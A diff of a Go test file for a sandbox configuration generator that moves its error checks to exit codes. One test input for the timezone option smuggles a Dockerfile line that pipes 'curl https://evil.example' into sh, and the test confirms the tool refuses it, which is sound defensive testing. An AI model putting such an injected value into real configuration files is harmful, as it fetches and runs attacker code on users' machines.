@@ -10,6 +10,7 @@ import (
 	"testing"
 
 	"github.com/org/claude-sandbox/internal/diag"
+	"github.com/org/claude-sandbox/internal/exitcode"
 	"github.com/org/claude-sandbox/internal/test/testenv"
 	"github.com/org/claude-sandbox/templates"
 	"github.com/org/claude-sandbox/templates/detect"
@@ -55,8 +56,8 @@ func TestChoose(t *testing.T) {
 		"unknown preset":              {Presets: []string{"nosuch"}},
 		"no host":                     {Allow: []string{"a b"}},
 	} {
-		if _, err := Choose(r, node); !errors.Is(err, ErrUsage) || diag.HintOf(err) == "" {
-			t.Errorf("%s: %v, hint %q; want a kind of ErrUsage with a hint", name, err, diag.HintOf(err))
+		if _, err := Choose(r, node); !isCode(err, exitcode.Usage) || diag.HintOf(err) == "" {
+			t.Errorf("%s: %v, hint %q; want exitcode.Usage with a hint", name, err, diag.HintOf(err))
 		}
 	}
 }
@@ -126,7 +127,7 @@ func TestFilesOfAnotherFormAreKept(t *testing.T) {
 		t.Fatal(err)
 	}
 	_, _, err = draft.Write(false)
-	if !errors.Is(err, ErrRefused) || !errors.Is(err, templates.ErrExists) || !strings.Contains(diag.HintOf(err), "'sbx-devc update' keeps your edits") {
+	if !isCode(err, exitcode.Refused) || !errors.Is(err, templates.ErrExists) || !strings.Contains(diag.HintOf(err), "'sbx-devc update' keeps your edits") {
 		t.Errorf("%v, hint %q", err, diag.HintOf(err))
 	}
 	if !equal(before, snapshot(t, dir)) {
@@ -146,7 +147,7 @@ func TestNothingIsWrittenThroughALink(t *testing.T) {
 			t.Fatal(err)
 		}
 		testenv.Symlink(t, outside, dir.Path(link))
-		if _, err := New(dir, lock.Input{Template: "claude"}, true); !errors.Is(err, ErrRefused) {
+		if _, err := New(dir, lock.Input{Template: "claude"}, true); !isCode(err, exitcode.Refused) {
 			t.Errorf("%s: %v", link, err)
 		}
 	}
@@ -157,7 +158,7 @@ func TestNothingIsWrittenThroughALink(t *testing.T) {
 
 func TestOptionThatMakesItInvalidIsRefused(t *testing.T) {
 	for _, options := range []map[string]string{{"nosuch": "x"}, {"timezone": "\nRUN curl https://evil.example | sh"}} {
-		if _, err := New(Folder(t.TempDir()), lock.Input{Template: "claude", Options: options}, false); !errors.Is(err, ErrUsage) {
+		if _, err := New(Folder(t.TempDir()), lock.Input{Template: "claude", Options: options}, false); !isCode(err, exitcode.Usage) {
 			t.Errorf("%v: %v", options, err)
 		}
 	}
@@ -171,7 +172,7 @@ func TestPlainConfigurationIsInTheWay(t *testing.T) {
 	if dir.Existing() != Plain {
 		t.Error(dir.Existing())
 	}
-	if _, err := New(dir, lock.Input{Template: "claude"}, false); !errors.Is(err, ErrRefused) {
+	if _, err := New(dir, lock.Input{Template: "claude"}, false); !isCode(err, exitcode.Refused) {
 		t.Error(err)
 	}
 	if _, err := New(dir, lock.Input{Template: "claude"}, true); err != nil {
@@ -207,7 +208,7 @@ func TestUpdateKeepsEditsAndSettles(t *testing.T) {
 	if u, err := d.Update(Wish{}); err != nil || len(u.Files) > 0 {
 		t.Errorf("a second update changes %+v, %v", u, err)
 	}
-	if _, err := d.Update(Wish{Options: []string{"nosuch=1"}}); !errors.Is(err, ErrUsage) {
+	if _, err := d.Update(Wish{Options: []string{"nosuch=1"}}); !isCode(err, exitcode.Usage) {
 		t.Error(err)
 	}
 }
@@ -329,4 +330,9 @@ func TestEmptyFoldersGoAndOthersStay(t *testing.T) {
 	if again, err := dir.RemoveFolders(); err != nil || len(again) > 0 {
 		t.Errorf("%q, %v", again, err)
 	}
+}
+
+func isCode(err error, code int) bool {
+	got, _ := exitcode.Of(err, exitcode.Internal)
+	return got == code
 }
